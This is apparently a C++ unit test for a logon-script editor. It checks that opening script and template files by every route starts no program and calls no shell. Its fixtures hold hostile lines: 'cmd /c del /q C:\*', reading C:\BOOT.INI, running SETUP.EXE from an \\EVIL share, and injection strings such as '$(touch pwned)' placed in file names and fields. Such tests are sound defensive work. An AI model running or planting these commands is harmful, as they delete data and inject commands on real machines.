// Opening a template or a script only reads it: whatever the file holds or is called, and
// whichever way it is opened, no program is started and nothing is handed to the shell.
// Only the Execute commands start anything.

#include <QDir>

#include "platform/text_codec.h"
#include "ui/main/program_entry.h"
#include "window_fixture.h"

namespace kestrune {
namespace {

// Lines that would start something, were anything run while reading.
const QByteArray kHostileScript =
    "@echo off\r\n"
    "start calc.exe\r\n"
    "START \"C:\\WINDOWS\\SYSTEM32\\CMD.EXE\"\r\n"
    "start \"\\\\EVIL\\SHARE\\POLICY.REG\"\r\n"
    "type \"C:\\BOOT.INI\"\r\n"
    "pause\r\n"
    "NET USE Z: \\\\EVIL\\SHARE\r\n"
    "cmd /c del /q C:\\*\r\n"
    "%COMSPEC% /c touch pwned\r\n"
    "rundll32 shell32.dll,ShellExec_RunDLL calc\r\n"
    "$(touch pwned) `touch pwned` ; touch pwned | touch pwned && touch pwned\r\n";
const QByteArray kHostileTemplate =
    "// Logon Script Template File\r\n\r\n"
    "[app]\r\nremote=\\\\EVIL\\TOOLS\\SETUP.EXE\r\n\r\n"
    "[app]\r\nlocal=/bin/touch pwned\r\n\r\n"
    "[reg]\r\nlocal=C:\\EVIL.REG\r\n\r\n"
    "[motd]\r\nlocal=$(touch pwned)\r\n\r\n"
    "[printer]\r\nremote=\\\\EVIL\\LASER\r\nport=1\r\n\r\n"
    "[other]\r\ncommand=touch pwned; xdg-open http://example.invalid\r\n\r\n";

enum class Route { FileMenu, Toolbar, Keys, CommandLine };

class OpenStartsNothingTest : public testing::WindowTest {
  protected:
    void open(const std::string& file, Route route) {
        prompts.files = {PathText(file)};
        switch (route) {
            case Route::FileMenu:
                fileMenu("mnuOpen");
                break;
            case Route::Toolbar:
                clickButton("Open");
                break;
            case Route::Keys:
                QTest::keyClick(window.get(), Qt::Key_O, Qt::ControlModifier);
                break;
            case Route::CommandLine:
                prompts.files.clear();
                OpenFromCommandLine(*window, file);
                break;
        }
    }

    void expectNothingStarted() {
        EXPECT_EQ(programs.lines, QStringList());
        EXPECT_TRUE(shell.calls.empty());
        EXPECT_TRUE(lookup.asked.isEmpty());
        EXPECT_TRUE(lookup.searched.isEmpty());
        // Nor by any other way: no file made by a command, no temporary script.
        EXPECT_FALSE(QFile::exists(QDir::current().filePath("pwned")));
        EXPECT_FALSE(QFile::exists(dir.filePath("pwned")));
        EXPECT_TRUE(QDir(programDir.path()).isEmpty());
    }
};

TEST_F(OpenStartsNothingTest, OpeningAnyFileByAnyWayStartsNothing) {
    struct Row {
        QString name;      // in the examples folder when bytes are empty
        QByteArray bytes;  // else written to the temporary folder under name
        Route route;
    };
    const Row rows[] = {
        {"office.lst", {}, Route::FileMenu},
        {"accounts.bat", {}, Route::Toolbar},
        {"hostile.bat", kHostileScript, Route::Keys},
        {"hostile.lst", kHostileTemplate, Route::CommandLine},
        {"$(touch pwned).lst", kHostileTemplate, Route::FileMenu},
        {"`touch pwned`.bat", kHostileScript, Route::Toolbar},
        {"a; touch pwned & calc.bat", kHostileScript, Route::Keys},
        {"hostile.txt", kHostileScript, Route::CommandLine},
    };
    start();
    for (const Row& row : rows) {
        SCOPED_TRACE(row.name.toStdString());
        const std::string file = row.bytes.isEmpty()
                                     ? PathBytes(QDir(KESTRUNE_EXAMPLES_DIR).filePath(row.name))
                                     : writeFile(row.name, row.bytes);
        open(file, row.route);
        EXPECT_EQ(window->document().documentPath, file);
        EXPECT_FALSE(window->actions().empty());
        clickRow(0);
    }
    // Again from the recent files, the five last opened.
    for (const char* item : {"mnuRec1", "mnuRec2", "mnuRec3", "mnuRec4", "mnuRec5"}) {
        fileMenu(item);
        EXPECT_FALSE(window->actions().empty()) << item;
    }
    EXPECT_TRUE(prompts.messages.empty()) << messageTexts().front().toStdString();
    expectNothingStarted();

    // The doubles do see a start: Execute Action starts the selected action.
    clickRow(0);
    toolsMenu("mnuExAction");
    EXPECT_EQ(programs.lines.size(), 1);
}

}  // namespace
}  // namespace kestrune
